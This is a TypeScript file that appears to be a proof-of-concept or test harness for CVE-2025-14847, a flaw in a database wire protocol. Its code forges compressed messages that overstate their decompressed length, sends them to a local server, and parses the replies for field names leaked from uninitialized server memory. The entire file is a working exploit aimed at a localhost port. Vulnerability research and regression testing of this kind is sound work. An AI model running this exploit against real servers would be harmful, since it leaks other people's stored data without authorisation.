/**
 * CVE-2025-14847: a compressed message claims to be longer than it is. A vulnerable server reads BSON from uninitialized
 * memory and repeats it in its error message.
 */
import { once } from 'node:events'
import { connect } from 'node:net'
import { deflateSync, inflateSync } from 'node:zlib'

const OP_MSG = 2013
const OP_COMPRESSED = 2012
const ZLIB = 2
const HEADER_BYTES = 16
/** Bytes by which the claimed length exceeds the claimed document. */
const SURPLUS_BYTES = 500
const ANSWER_MS = 5_000

/** The replies of a server to forged messages, as text; a message that closes the connection has no reply. */
export async function repliesToForgedMessages(port: number, documentBytes: readonly number[]): Promise<string[]> {
  const answers: string[] = []
  for (const bytes of documentBytes) answers.push(await answerTo(port, forgedMessage(bytes)))
  return answers.filter(Boolean)
}

/** Names of fields that a reply quotes and that were not sent. */
export function leakedNames(answers: readonly string[]): string[] {
  const quoted = answers.flatMap(answer => [...answer.matchAll(/field name '([^']*)'/g)].map(([, name = '']) => name))
  return quoted.filter(name => !['', 'a', '?', '$db', 'ping'].includes(name))
}

/** A document that claims `bytes` and has one field, in a message whose claimed decompressed length fits it. */
function forgedMessage(bytes: number): Buffer {
  const field = Buffer.from([0x10, 0x61, 0x00, 1, 0, 0, 0]) // int32 a: 1, without the end of the document
  const message = Buffer.concat([int32(0), Buffer.from([0]), int32(bytes), field])
  const body = Buffer.concat([int32(OP_MSG), int32(bytes + SURPLUS_BYTES), Buffer.from([ZLIB]), deflateSync(message)])
  return Buffer.concat([int32(HEADER_BYTES + body.length), int32(1), int32(0), int32(OP_COMPRESSED), body])
}

function int32(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeInt32LE(value)
  return bytes
}

/** The first reply as text; empty if the server closes the connection. */
async function answerTo(port: number, message: Buffer): Promise<string> {
  const socket = connect(port, '127.0.0.1')
  socket.setTimeout(ANSWER_MS, () => socket.destroy())
  let answer = Buffer.alloc(0)
  socket.on('data', chunk => {
    answer = Buffer.concat([answer, chunk])
    if (answer.length >= 4 && answer.length >= answer.readInt32LE(0)) socket.end()
  })
  socket.on('error', () => undefined) // a reset also ends the connection
  socket.write(message)
  await once(socket, 'close')
  if (answer.length < HEADER_BYTES) return ''
  return (answer.readInt32LE(12) === OP_COMPRESSED ? inflateSync(answer.subarray(HEADER_BYTES + 9)) : answer).toString(
    'latin1',
  )
}
